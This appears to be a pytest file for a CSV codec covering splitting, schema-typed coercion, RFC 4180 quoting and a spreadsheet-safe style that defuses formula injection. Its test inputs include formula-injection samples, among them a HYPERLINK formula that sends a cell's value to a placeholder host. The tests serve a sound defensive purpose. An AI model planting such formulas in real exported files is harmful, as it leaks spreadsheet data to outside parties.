"""CSV codec: splitting, coercion by schema types, rendering that reads back."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from entrepot.problems import BadRequest
from entrepot.records.csv_codec import (
    CellError,
    CsvSyntaxError,
    RecordAssembler,
    check_header,
    coerce_row,
    columns,
    parse_cell,
    render_cell,
    render_header,
    render_row,
    split_record,
)
from entrepot.records.lines import Line
from entrepot.schema.record_schema import RecordSchema

SCHEMA = RecordSchema.compile(
    {
        "type": "object",
        "properties": {
            "s": {"type": "string"},
            "i": {"type": "integer"},
            "n": {"type": "number"},
            "b": {"type": "boolean"},
            "o": {"type": "object"},
            "a": {"type": "array"},
            "sn": {"type": ["string", "null"]},
            "mix": {"type": ["string", "integer", "boolean", "null"]},
            "any": {},
        },
    }
)
STRING = frozenset({"string"})


def physical_lines(text: str) -> list[Line]:
    raw = text.encode()
    parts = raw.split(b"\n")
    lines = [part + b"\n" for part in parts[:-1]] + ([parts[-1]] if parts[-1] else [])
    return [Line(number, part) for number, part in enumerate(lines, 1)]


def read_csv(text: str, limit: int = 1 << 20) -> list[tuple[int, list[str] | str]]:
    """(first line, fields or error) for every logical record of ``text``."""
    assembler = RecordAssembler(limit)
    records = [assembler.feed(line) for line in physical_lines(text)] + [assembler.finish()]
    out: list[tuple[int, list[str] | str]] = []
    for record in records:
        if record is None or (record.error is None and record.text == ""):
            continue
        out.append((record.line, record.error or split_record(record.text)))
    return out


def canonical(value: Any) -> str:
    return json.dumps(value, sort_keys=True, ensure_ascii=False)


# --- splitting ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "fields"),
    [
        ("a,b,c", ["a", "b", "c"]),
        ("", [""]),
        ("a,", ["a", ""]),
        (",", ["", ""]),
        ('"a,b",c', ["a,b", "c"]),
        ('"say ""hi""",x', ['say "hi"', "x"]),
        ('"line\r\nbreak",""', ["line\r\nbreak", ""]),
        ('""""', ['"']),
    ],
)
def test_split_record(text: str, fields: list[str]) -> None:
    assert split_record(text) == fields


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('"open', "a quoted field is never closed"),
        ('"a"b', "a closing quote must end its field"),
        ('a"b', "a quote inside an unquoted field"),
    ],
)
def test_split_record_refuses_broken_quoting(text: str, message: str) -> None:
    with pytest.raises(CsvSyntaxError, match=message):
        split_record(text)


def test_records_span_lines_and_keep_their_first_line_number() -> None:
    text = 'h1,h2\r\n"a\r\nb",1\r\n\r\nc,"x\n""y""\nz"\r\nlast,"open\n'
    assert read_csv(text) == [
        (1, ["h1", "h2"]),
        (2, ["a\r\nb", "1"]),
        (5, ["c", 'x\n"y"\nz']),
        (8, "a quoted field is never closed"),
    ]


def test_oversized_and_undecodable_records_are_errors_on_their_line() -> None:
    assembler = RecordAssembler(limit=10)
    lines = [Line(1, b'"0123\n'), Line(2, b'456789",x\n'), Line(3, b"ok\n"), Line(4, b"\xff\n")]
    records = [assembler.feed(line) for line in lines]
    assert records[0] is None
    assert records[1] is not None
    assert (records[1].line, records[1].error) == (1, "the record is longer than 10 bytes")
    assert records[2] is not None
    assert (records[2].line, records[2].text) == (3, "ok")
    assert records[3] is not None
    assert records[3].error == "the record is not valid UTF-8"
    assert assembler.finish() is None


def test_a_line_too_long_to_keep_ends_its_record() -> None:
    assembler = RecordAssembler(limit=100)
    assert assembler.feed(Line(1, b'"open\n')) is None
    dropped = assembler.feed(Line(2, None))
    assert dropped is not None
    assert (dropped.line, dropped.error) == (1, "the record is longer than 100 bytes")
    resumed = assembler.feed(Line(3, b"fine\n"))
    assert resumed is not None
    assert (resumed.line, resumed.text) == (3, "fine")


# --- header and coercion -------------------------------------------------------


def test_header_must_name_each_property_once() -> None:
    assert check_header(["s", "i"], SCHEMA) == ["s", "i"]
    with pytest.raises(BadRequest) as caught:
        check_header(["s", "nope", "s"], SCHEMA)
    assert [e["path"] for e in caught.value.errors or []] == ["/1", "/2"]


@pytest.mark.parametrize(
    ("cell", "types", "value"),
    [
        ("12", frozenset({"integer"}), 12),
        ("12345678901234567890", frozenset({"integer"}), 12345678901234567890),
        ("2.0", frozenset({"integer"}), 2.0),
        ("-1.5e3", frozenset({"number"}), -1500.0),
        ("7", frozenset({"number"}), 7),
        ("true", frozenset({"boolean"}), True),
        ("null", frozenset({"null", "string"}), None),
        ("null", STRING, "null"),
        ("12", STRING, "12"),
        ('"12"', frozenset({"string", "integer"}), "12"),
        ('"not closed', STRING, '"not closed'),
        ('{"a": [1]}', frozenset({"object"}), {"a": [1]}),
        ("[1, 2]", None, [1, 2]),
        ("[not json", None, "[not json"),
        ("012", None, "012"),
        ("Zoë", None, "Zoë"),
    ],
)
def test_parse_cell(cell: str, types: frozenset[str] | None, value: Any) -> None:
    assert canonical(parse_cell(cell, types)) == canonical(value)


@pytest.mark.parametrize(
    ("cell", "types", "message"),
    [
        ("abc", frozenset({"integer"}), "expected integer, got 'abc'"),
        ("2.5", frozenset({"integer"}), "expected integer, got '2.5'"),
        ("yes", frozenset({"boolean", "null"}), "expected boolean or null, got 'yes'"),
        ("[1]", frozenset({"object"}), "expected object, got '[1]'"),
        ("{bad", frozenset({"object"}), "a property name in double quotes was expected"),
        ("1e999", frozenset({"number"}), "out of range"),
    ],
)
def test_parse_cell_errors(cell: str, types: frozenset[str], message: str) -> None:
    with pytest.raises(CellError, match=message.replace("[", r"\[")):
        parse_cell(cell, types)


def test_coerce_row_reports_each_bad_cell_and_skips_empty_ones() -> None:
    header = ["s", "i", "b", "a/b~"]
    schema = RecordSchema.compile({"type": "object", "properties": {k: {} for k in header}})
    assert coerce_row(header, ["x", "", "true", "1"], schema) == (
        {"s": "x", "b": True, "a/b~": 1},
        [],
    )
    typed = RecordSchema.compile(
        {"type": "object", "properties": {"i": {"type": "integer"}, "a/b~": {"type": "boolean"}}}
    )
    _, errors = coerce_row(["i", "a/b~"], ["x", "y"], typed)
    assert [e["path"] for e in errors] == ["/i", "/a~1b~0"]
    assert coerce_row(["i"], ["1", "2"], typed)[1] == [
        {"path": "", "message": "expected 1 fields, got 2"}
    ]


@pytest.mark.parametrize(
    ("value", "types", "cell"),
    [
        ("plain", STRING, "plain"),
        ("", STRING, '""'),
        ("12", STRING, "12"),
        ("12", None, '"12"'),
        ("true", frozenset({"string", "boolean"}), '"true"'),
        ("null", frozenset({"string", "null"}), '"null"'),
        ('"q"', STRING, '"\\"q\\""'),
        (None, None, "null"),
        (False, None, "false"),
        (12345678901234567890, None, "12345678901234567890"),
        (0.5, None, "0.5"),
        ({"k": ["v", 1]}, None, '{"k":["v",1]}'),
    ],
)
def test_render_cell(value: Any, types: frozenset[str] | None, cell: str) -> None:
    assert render_cell(value, types) == cell


def test_render_row_quotes_per_rfc_4180() -> None:
    names = columns(SCHEMA)
    line = render_row(names, SCHEMA, {"s": 'a,"b"\nc', "a": [1, "x"], "b": True})
    assert line.endswith("\r\n")
    cells = split_record(line[:-2])
    assert dict(zip(names, cells, strict=True)) == {
        "s": 'a,"b"\nc',
        "i": "",
        "n": "",
        "b": "true",
        "o": "",
        "a": '[1,"x"]',
        "sn": "",
        "mix": "",
        "any": "",
    }


# --- the spreadsheet style ---------------------------------------------------

FORMULA_FIRST = ["=", "+", "-", "@", "\t", "\r"]
COLUMN_TYPES = [STRING, None, frozenset({"string", "integer", "boolean", "null"})]


@pytest.mark.parametrize("types", COLUMN_TYPES)
@pytest.mark.parametrize("first", FORMULA_FIRST)
@pytest.mark.parametrize("rest", ["", "1+2", 'HYPERLINK("https://x.example/?"&A1)', "5"])
def test_spreadsheet_style_prefixes_strings_that_would_be_formulas(
    first: str, rest: str, types: frozenset[str] | None
) -> None:
    value = first + rest
    assert render_cell(value, types, "spreadsheet") == "'" + value


@pytest.mark.parametrize("types", COLUMN_TYPES)
@pytest.mark.parametrize(
    "value",
    [
        "plain",
        "a=b",
        "x-1",
        "mail@example.org",
        "tab\tinside",
        "1+2",
        " =leading space",
        "'=already quoted",
        "",
        '"quoted"',
        "12",
        "true",
        "null",
        None,
        True,
        False,
        -5,
        -1.5e-7,
        -12345678901234567890,
        0,
        {"f": "=1+2", "n": -1},
        ["=1", "-2", -3],
    ],
)
def test_spreadsheet_style_leaves_everything_else_as_exact(
    value: Any, types: frozenset[str] | None
) -> None:
    assert render_cell(value, types, "spreadsheet") == render_cell(value, types)


def test_numbers_stay_numbers_strings_that_look_like_them_are_text() -> None:
    assert render_cell(-5, None, "spreadsheet") == "-5"
    assert render_cell(-5, frozenset({"integer"}), "spreadsheet") == "-5"
    assert render_cell("-5", None) == '"-5"'  # exact: a JSON string, reads back as one
    assert render_cell("-5", None, "spreadsheet") == "'-5"
    assert render_cell("-5", STRING, "spreadsheet") == "'-5"


def test_exact_style_is_the_default_and_writes_formula_text_as_is() -> None:
    for value in ("=1+2", "+5", "@SUM(A1:A2)", "\tx", "\rx", "-x"):
        assert render_cell(value, STRING) == render_cell(value, STRING, "exact") == value
        assert parse_cell(render_cell(value, STRING), STRING) == value


def test_spreadsheet_header_and_rows() -> None:
    assert render_header(["=x", "ok", "-y"]) == "=x,ok,-y\r\n"
    assert render_header(["=x", "ok", "-y"], "spreadsheet") == "'=x,ok,'-y\r\n"
    names = columns(SCHEMA)
    record = {"s": "\r=1", "i": -3, "n": -0.5, "mix": "@x", "any": "=A1", "sn": None}
    line = render_row(names, SCHEMA, record, "spreadsheet")
    assert line.startswith('"\'\r=1",-3,-0.5,')  # a carriage return still needs RFC 4180 quotes
    cells = dict(zip(names, split_record(line[:-2]), strict=True))
    assert cells == {
        "s": "'\r=1",
        "i": "-3",
        "n": "-0.5",
        "b": "",
        "o": "",
        "a": "",
        "sn": "null",
        "mix": "'@x",
        "any": "'=A1",
    }
    assert render_row(names, SCHEMA, record) == render_row(names, SCHEMA, record, "exact")
    assert split_record(render_row(names, SCHEMA, record)[:-2])[0] == "\r=1"


# --- the round trip ----------------------------------------------------------

TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"))
INTEGERS = st.integers(min_value=-(10**30), max_value=10**30)
FLOATS = st.floats(allow_nan=False, allow_infinity=False)
JSON_VALUE = st.recursive(
    st.none() | st.booleans() | INTEGERS | FLOATS | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=8,
)
RECORD = st.fixed_dictionaries(
    {},
    optional={
        "s": TEXT,
        "i": INTEGERS | FLOATS.filter(float.is_integer),
        "n": INTEGERS | FLOATS,
        "b": st.booleans(),
        "o": st.dictionaries(TEXT, JSON_VALUE, max_size=3),
        "a": st.lists(JSON_VALUE, max_size=3),
        "sn": st.none() | TEXT,
        "mix": st.none() | TEXT | INTEGERS | st.booleans(),
        "any": JSON_VALUE,
    },
)


@given(st.lists(RECORD, max_size=5))
def test_rendered_records_parse_back_unchanged(records: list[dict[str, Any]]) -> None:
    names = columns(SCHEMA)
    text = ",".join(names) + "\r\n" + "".join(render_row(names, SCHEMA, r) for r in records)
    parsed = read_csv(text)
    header = parsed[0][1]
    assert header == names
    back = []
    for _, cells in parsed[1:]:
        assert isinstance(cells, list)
        record, errors = coerce_row(names, cells, SCHEMA)
        assert errors == []
        back.append(record)
    assert [canonical(r) for r in back] == [canonical(r) for r in records]


@given(RECORD)
def test_a_spreadsheet_cell_starts_like_a_formula_only_for_a_number(
    record: dict[str, Any],
) -> None:
    for name, value in record.items():
        cell = render_cell(value, SCHEMA.property_types.get(name), "spreadsheet")
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert type(value) in (int, float), (value, cell)
